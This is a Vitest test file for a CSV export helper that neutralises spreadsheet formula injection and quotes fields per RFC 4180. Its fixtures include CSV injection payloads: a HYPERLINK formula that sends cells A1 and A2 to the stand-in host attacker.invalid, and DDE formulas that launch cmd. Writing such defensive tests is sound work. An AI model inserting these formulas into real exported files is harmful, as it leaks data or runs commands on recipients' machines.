import { describe, expect, it } from 'vitest';
import { seededRandom } from '../../../scripts/demo/seeded-random.ts';
import { readCsv } from '../../../core/geo/csv.ts';
import { csvField, FORMULA_STARTS, mayRunAsFormula, neutraliseFormula, spreadsheetSafeField } from '../../../core/csv-writing/csv-field.ts';

// A seeded generator (mulberry32), so a failing case can be replayed.
const seeded = seededRandom;

describe('the formula rule (OWASP "CSV Injection", from memory)', () => {
  it('names exactly the six characters OWASP lists: = + - @ tab, carriage return', () => {
    // OWASP CSV Injection page: "Equals to (=), Plus (+), Minus (-), At (@), Tab (0x09), Carriage return (0x0D)".
    expect([...FORMULA_STARTS].sort()).toEqual(['\t', '\r', '+', '-', '=', '@'].sort());
  });

  it('prefixes a single quote to the OWASP example payloads', () => {
    // Payload shapes from the OWASP page (from memory): a HYPERLINK lure, a DDE command, an @SUM.
    const payloads = [
      '=HYPERLINK("http://attacker.invalid?leak="&A1&A2,"Error: click for details")',
      "=cmd|' /C calc'!A0",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+9)*cmd|\' /C calc\'!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    for (const p of payloads) {
      expect(mayRunAsFormula(p), p).toBe(true);
      expect(neutraliseFormula(p)).toBe(`'${p}`);
    }
  });

  it('leaves numbers alone: coordinates and signed counts stay numbers', () => {
    for (const n of ['-111.2', '+45.5', '-0', '-.5', '1e-5', '-1.5E+3', '0', '42']) {
      expect(mayRunAsFormula(n), n).toBe(false);
      expect(spreadsheetSafeField(n)).toBe(n);
    }
    expect(spreadsheetSafeField(-5)).toBe('-5');
  });

  it('prefixes cells that only look numeric at the start, and leaves ordinary text alone', () => {
    expect(neutraliseFormula('-')).toBe("'-");
    expect(neutraliseFormula('+44 1632 960000')).toBe("'+44 1632 960000"); // a phone number is text, not a number
    expect(neutraliseFormula('-1-1')).toBe("'-1-1");
    expect(neutraliseFormula('Rowan Quay = east')).toBe('Rowan Quay = east');
    expect(neutraliseFormula('')).toBe('');
  });
});

describe('csvField and spreadsheetSafeField (RFC 4180 section 2, rules 6 and 7)', () => {
  it('quotes commas, quotes and line breaks and doubles inner quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField('plain')).toBe('plain');
  });

  it('csvField keeps formula text exact (for uploads), spreadsheetSafeField quotes the neutralised cell', () => {
    expect(csvField('=1+1')).toBe('=1+1');
    expect(spreadsheetSafeField('=1+1')).toBe(`"'=1+1"`);
    expect(spreadsheetSafeField('=A1,"x"')).toBe(`"'=A1,""x"""`);
  });

  it('round-trips through the RFC 4180 reader: csvField exactly, spreadsheetSafeField with one leading quote (seeded)', () => {
    const random = seeded(183);
    const alphabet = ['=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', 'a', 'Z', '7', '.', 'é', "'"];
    for (let k = 0; k < 500; k++) {
      const cells = Array.from({ length: 3 }, () => Array.from({ length: Math.floor(random() * 6) }, () => alphabet[Math.floor(random() * alphabet.length)]!).join(''));
      const exact = readCsv(cells.map(csvField).join(',') + '\r\n').records[0];
      expect(exact, JSON.stringify(cells)).toEqual(cells);
      const safe = readCsv(cells.map(spreadsheetSafeField).join(',') + '\r\n').records[0]!;
      safe.forEach((cell, i) => {
        expect(cell).toBe(mayRunAsFormula(cells[i]!) ? `'${cells[i]}` : cells[i]);
        expect(mayRunAsFormula(cell), JSON.stringify(cell)).toBe(false);
      });
    }
  });
});
